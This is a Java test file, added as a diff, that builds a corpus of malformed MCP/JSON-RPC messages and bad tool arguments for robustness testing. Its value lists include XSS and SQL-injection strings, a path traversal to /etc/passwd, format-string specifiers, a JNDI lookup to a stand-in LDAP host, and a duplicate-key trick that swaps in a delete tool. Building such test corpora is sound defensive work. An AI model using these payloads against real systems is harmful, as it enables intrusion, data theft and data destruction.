@@ -1,0 +1,157 @@
+package org.consentlab.mcp;
+
+import java.nio.charset.StandardCharsets;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Map;
+import tools.jackson.databind.JsonNode;
+import tools.jackson.databind.json.JsonMapper;
+
+/**
+ * Bad inputs, hand-picked and generated: whole MCP messages (envelopes, names, sizes, encodings)
+ * and tool arguments for every tool (wrong types per field, numbers that do not fit, markup and
+ * SQL-looking text, huge and odd strings, missing and extra fields, text that is not JSON).
+ */
+final class BadInputCorpus {
+
+    record Message(String label, byte[] body) {
+    }
+
+    record Args(String label, String tool, String text, boolean json) {
+    }
+
+    /** Values of every JSON type, to put where another type belongs. */
+    static final List<String> WRONG_TYPES = List.of("\"text\"", "42", "1.5", "true", "null", "[]", "[1,2]", "{}",
+            "{\"a\":1}");
+
+    static final List<String> NASTY_VALUES = List.of("\"<script>alert(1)</script>\"", "\"<img src=x onerror=alert(1)>\"",
+            "\"'; DROP TABLE audit_record; --\"", "\"\\\" OR 1=1 --\"", "\"RPT-31' OR '1'='1\"", "\"\"", "\" \"",
+            "\"\\u0000\"", "\"\\ud800\"", "\"𝔘𝔫𝔦𝔠𝔬𝔡𝔢 ☃ مرحبا\"", "\"" + "x".repeat(5000) + "\"", "\"../../etc/passwd\"",
+            "\"%s%n%x\"", "\"${jndi:ldap://x/a}\"", "1e300", "-1e300", "2147483648", "-2147483649",
+            "99999999999999999999999", "0", "-1", "0.0000001", "1E-400", "-0", "\"MUG-01\\n\"");
+
+    private BadInputCorpus() {
+    }
+
+    static List<Message> messages() {
+        List<Message> corpus = new ArrayList<>();
+        String call = "{\"jsonrpc\":\"2.0\",\"id\":7,\"method\":\"tools/call\",\"params\":{\"name\":\"get_account\",\"arguments\":{}}}";
+        for (String wrong : WRONG_TYPES) {
+            corpus.add(text("jsonrpc=" + wrong, call.replace("\"2.0\"", wrong)));
+            corpus.add(text("id=" + wrong, call.replace("\"id\":7", "\"id\":" + wrong)));
+            corpus.add(text("method=" + wrong, call.replace("\"tools/call\"", wrong)));
+            corpus.add(text("params=" + wrong, call.replace("{\"name\":\"get_account\",\"arguments\":{}}", wrong)));
+            corpus.add(text("name=" + wrong, call.replace("\"get_account\"", wrong)));
+            corpus.add(text("arguments=" + wrong, call.replace("\"arguments\":{}", "\"arguments\":" + wrong)));
+            corpus.add(text("_meta=" + wrong, call.replace("\"arguments\":{}", "\"arguments\":{},\"_meta\":" + wrong)));
+            corpus.add(text("body=" + wrong, wrong));
+            corpus.add(text("initialize.clientInfo=" + wrong, McpHttp.INITIALIZE.replace(
+                    "{\"name\":\"raw-test\",\"version\":\"1\"}", wrong)));
+            corpus.add(text("tools/list.cursor=" + wrong, "{\"jsonrpc\":\"2.0\",\"id\":3,\"method\":\"tools/list\","
+                    + "\"params\":{\"cursor\":" + wrong + "}}"));
+        }
+        for (String version : List.of("\"1.0\"", "\"2\"", "\"2.0 \"", "\"\"", "2.0")) {
+            corpus.add(text("jsonrpc " + version, call.replace("\"2.0\"", version)));
+        }
+        corpus.add(text("no jsonrpc", call.replace("\"jsonrpc\":\"2.0\",", "")));
+        corpus.add(text("no params", "{\"jsonrpc\":\"2.0\",\"id\":7,\"method\":\"tools/call\"}"));
+        corpus.add(text("no name", call.replace("\"name\":\"get_account\",", "")));
+        corpus.add(text("neither method nor result", "{\"jsonrpc\":\"2.0\",\"id\":7}"));
+        corpus.add(text("result and error", "{\"jsonrpc\":\"2.0\",\"id\":7,\"result\":{},\"error\":{\"code\":1,\"message\":\"x\"}}"));
+        corpus.add(text("error not an object", "{\"jsonrpc\":\"2.0\",\"id\":7,\"error\":\"boom\"}"));
+        corpus.add(text("response without id", "{\"jsonrpc\":\"2.0\",\"result\":{}}"));
+        corpus.add(text("duplicate name picks delete", call.replace("\"name\":\"get_account\"",
+                "\"name\":\"get_account\",\"name\":\"delete_account\"")));
+        corpus.add(text("duplicate method", call.replace("\"method\":\"tools/call\"",
+                "\"method\":\"tools/list\",\"method\":\"tools/call\"")));
+        corpus.add(text("duplicate in arguments", call.replace("\"arguments\":{}", "\"arguments\":{\"a\":1,\"a\":2}")));
+        corpus.add(text("duplicate id", call.replace("\"id\":7", "\"id\":7,\"id\":8")));
+        corpus.add(text("duplicate jsonrpc", call.replace("\"jsonrpc\":\"2.0\"", "\"jsonrpc\":\"2.0\",\"jsonrpc\":\"1.0\"")));
+        corpus.add(text("empty body", ""));
+        corpus.add(text("whitespace body", "  \n "));
+        corpus.add(text("not json", "hello"));
+        corpus.add(text("truncated", call.substring(0, call.length() - 3)));
+        corpus.add(text("trailing garbage", call + "x"));
+        corpus.add(text("two messages", call + call));
+        corpus.add(text("batch", "[" + call + "]"));
+        corpus.add(text("empty batch", "[]"));
+        corpus.add(text("single quotes", call.replace('"', '\'')));
+        corpus.add(text("comment", "/* hi */" + call));
+        corpus.add(text("NaN argument", call.replace("\"arguments\":{}", "\"arguments\":{\"q\":NaN}")));
+        corpus.add(text("unknown tool", call.replace("get_account", "confirm_deletion")));
+        corpus.add(text("markup tool name", call.replace("get_account", "<script>alert(1)</script>")));
+        corpus.add(text("sql tool name", call.replace("get_account", "x'; DROP TABLE gate; --")));
+        corpus.add(text("empty tool name", call.replace("get_account", "")));
+        corpus.add(text("long tool name", call.replace("get_account", "a".repeat(129))));
+        corpus.add(text("very long tool name", call.replace("get_account", "a".repeat(100_000))));
+        corpus.add(text("unknown method", call.replace("tools/call", "tools/confirm")));
+        corpus.add(text("deep nesting", call.replace("\"arguments\":{}", "\"arguments\":{\"a\":"
+                + "[".repeat(5000) + "]".repeat(5000) + "}")));
+        corpus.add(text("oversized", call.replace("\"arguments\":{}", "\"arguments\":{\"a\":\""
+                + "x".repeat(300 * 1024) + "\"}")));
+        corpus.add(new Message("byte order mark", concat(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, bytes(call))));
+        corpus.add(new Message("utf-16", call.getBytes(StandardCharsets.UTF_16)));
+        for (byte[] bad : List.of(new byte[] {(byte) 0xC3}, new byte[] {(byte) 0xFF}, new byte[] {(byte) 0xC0, (byte) 0xAF},
+                new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, new byte[] {(byte) 0xF8, (byte) 0x88, (byte) 0x80},
+                new byte[] {(byte) 0x80}, new byte[] {(byte) 0xE2, (byte) 0x82})) {
+            byte[] before = bytes(call.substring(0, call.indexOf("get_account")));
+            byte[] after = bytes(call.substring(call.indexOf("get_account")));
+            corpus.add(new Message("invalid utf-8 " + hex(bad), concat(concat(before, bad), after)));
+        }
+        return corpus;
+    }
+
+    /** For each tool: wrong and nasty values in every declared field, missing and extra fields, non-objects, non-JSON. */
+    static List<Args> arguments(Map<String, String> schemas, JsonMapper json) {
+        List<Args> corpus = new ArrayList<>();
+        schemas.forEach((tool, schema) -> {
+            JsonNode properties = json.readTree(schema).path("properties");
+            for (String field : properties.propertyNames()) {
+                for (String value : concat(WRONG_TYPES, NASTY_VALUES)) {
+                    corpus.add(new Args(field + "=" + shorten(value), tool, "{\"" + field + "\":" + value + "}", true));
+                }
+                corpus.add(new Args("duplicate " + field, tool, "{\"" + field + "\":1,\"" + field + "\":\"x\"}", false));
+            }
+            corpus.add(new Args("extra field", tool, "{\"unexpected\":true}", true));
+            corpus.add(new Args("markup key", tool, "{\"<b>key</b>\":1}", true));
+            for (String notAnObject : List.of("[]", "\"text\"", "42", "null", "true")) {
+                corpus.add(new Args("arguments " + notAnObject, tool, notAnObject, true));
+            }
+            for (String notJson : List.of("{", "{\"a\":}", "{'a':1}", "{a:1}", "{\"a\":1} trailing", "NaN",
+                    "{\"a\":NaN}", "/* c */ {}", "{\"a\":\"\\x\"}")) {
+                corpus.add(new Args("not json " + notJson, tool, notJson, false));
+            }
+            corpus.add(new Args("too large", tool, "{\"a\":\"" + "x".repeat(20_000) + "\"}", true));
+        });
+        return corpus;
+    }
+
+    private static Message text(String label, String body) {
+        return new Message(label, bytes(body));
+    }
+
+    private static byte[] bytes(String text) {
+        return text.getBytes(StandardCharsets.UTF_8);
+    }
+
+    private static byte[] concat(byte[] a, byte[] b) {
+        byte[] both = new byte[a.length + b.length];
+        System.arraycopy(a, 0, both, 0, a.length);
+        System.arraycopy(b, 0, both, a.length, b.length);
+        return both;
+    }
+
+    private static List<String> concat(List<String> a, List<String> b) {
+        List<String> both = new ArrayList<>(a);
+        both.addAll(b);
+        return both;
+    }
+
+    private static String hex(byte[] bytes) {
+        return java.util.HexFormat.of().formatHex(bytes);
+    }
+
+    private static String shorten(String value) {
+        return value.length() > 30 ? value.substring(0, 30) + "…" : value;
+    }
+}
